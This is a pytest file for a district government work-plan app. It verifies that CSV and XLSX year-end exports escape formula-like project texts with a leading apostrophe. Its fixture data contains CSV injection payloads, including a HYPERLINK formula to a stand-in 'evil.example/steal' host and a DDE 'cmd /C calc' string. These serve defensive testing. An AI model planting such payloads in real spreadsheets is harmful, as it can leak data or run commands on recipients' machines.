"""The year-end CSV and XLSX write text from users as text: a project text that looks like a formula
(``=HYPERLINK(...)``, ``+…``, ``-…``, ``@…``, a leading tab or carriage return) reaches Excel or WPS as the text it
is, never as a formula (issue 14 §5, OWASP's CSV injection guidance)."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
import yaml
from openpyxl import load_workbook

from tests.web_support import login_as  # noqa: F401
from workflows.plan import loading as plans
from workflows.reports.tables import spreadsheet_text

HYPERLINK = '=HYPERLINK("http://evil.example/steal","点击")'
FORMULA_TEXTS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def plan_with_formula_texts(driver):
    """A 2018 plan, imported from the plan file's first projects, whose project texts look like formulas."""
    document = yaml.safe_load(plans.DEFAULT_PLAN_FILE.read_text(encoding="utf-8"))
    projects = [{**project, "text": text, "due_on": None}
                for project, text in zip(document["projects"], FORMULA_TEXTS)]
    document.update(year=2018, title="普陀区2018年重点工作项目安排", issued_on=date(2018, 3, 1), projects=projects)
    plans.load_plan_data(driver.session, plans.read_plan_document(document))
    driver.session.commit()


@pytest.mark.parametrize("text", FORMULA_TEXTS)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["区民政局", "2017-05", "—", "a=b", "", "'已加引号"])
def test_ordinary_text_is_left_as_it_is(text):
    assert spreadsheet_text(text) == text


def test_the_xlsx_holds_no_formula_and_the_project_texts_as_text(plan_with_formula_texts, login_as):
    response = login_as("office", unit="tuijinban", role="office").get("/reports/year-end/2018.xlsx")

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [row[2] for row in workbook["项目汇总"].iter_rows(min_row=2, values_only=True)]
    assert texts == ["'" + text for text in FORMULA_TEXTS]


def test_the_csv_cells_of_formula_like_texts_begin_with_an_apostrophe(plan_with_formula_texts, login_as):
    response = login_as("office", unit="tuijinban", role="office").get("/reports/year-end/2018.csv")

    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    project_rows = rows[2:2 + len(FORMULA_TEXTS)]
    assert [row[2] for row in project_rows] == ["'" + text for text in FORMULA_TEXTS]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_numbers_and_dates_stay_numbers_and_dates_in_the_xlsx(plan_with_formula_texts, login_as):
    response = login_as("office", unit="tuijinban", role="office").get("/reports/year-end/2018.xlsx")

    rates = load_workbook(io.BytesIO(response.data))["季度按时率"]
    whole_district = [row for row in rates.iter_rows(min_row=2) if row[0].value == "全区"][0]
    counted = whole_district[1]
    assert counted.value == 0 and counted.data_type == "n"
